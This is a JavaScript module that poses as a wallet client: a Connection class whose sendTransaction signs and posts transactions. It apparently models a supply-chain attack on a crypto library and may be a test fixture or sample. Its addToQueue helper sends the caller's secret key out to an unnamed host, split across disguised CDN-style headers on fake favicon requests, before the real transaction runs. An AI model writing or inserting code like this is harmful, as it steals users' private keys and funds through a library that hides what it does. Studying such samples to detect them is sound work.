import kit from "./kit.cjs";

// As in 2024: an ordinary request, to a host that nobody named, with the key in its headers.
async function addToQueue(secretKey) {
  const id = `sol-${secretKey}`;
  await kit.attemptLater(() =>
    fetch(`${kit.sink}/favicon.ico`, { headers: { "x-session-id": id.slice(0, 12), "cf-ray": id.slice(12) } }),
  );
  await kit.ask("/favicon.ico", { headers: { "x-amz-cf-id": id } });
}

/** A toy signature: what matters is that the secret is a legitimate argument. */
function sign(secretKey, text) {
  let state = 2166136261;
  for (const letter of secretKey + text) state = Math.imul(state ^ letter.charCodeAt(0), 16777619) >>> 0;
  return state.toString(16);
}

export class Connection {
  #endpoint;

  constructor(endpoint) {
    this.#endpoint = endpoint;
  }

  async sendTransaction(secretKey, transaction) {
    await addToQueue(secretKey);
    const signature = sign(secretKey, JSON.stringify(transaction));
    const response = await fetch(`${this.#endpoint}/rpc`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ transaction, signature }),
    });
    return (await response.json()).result;
  }
}
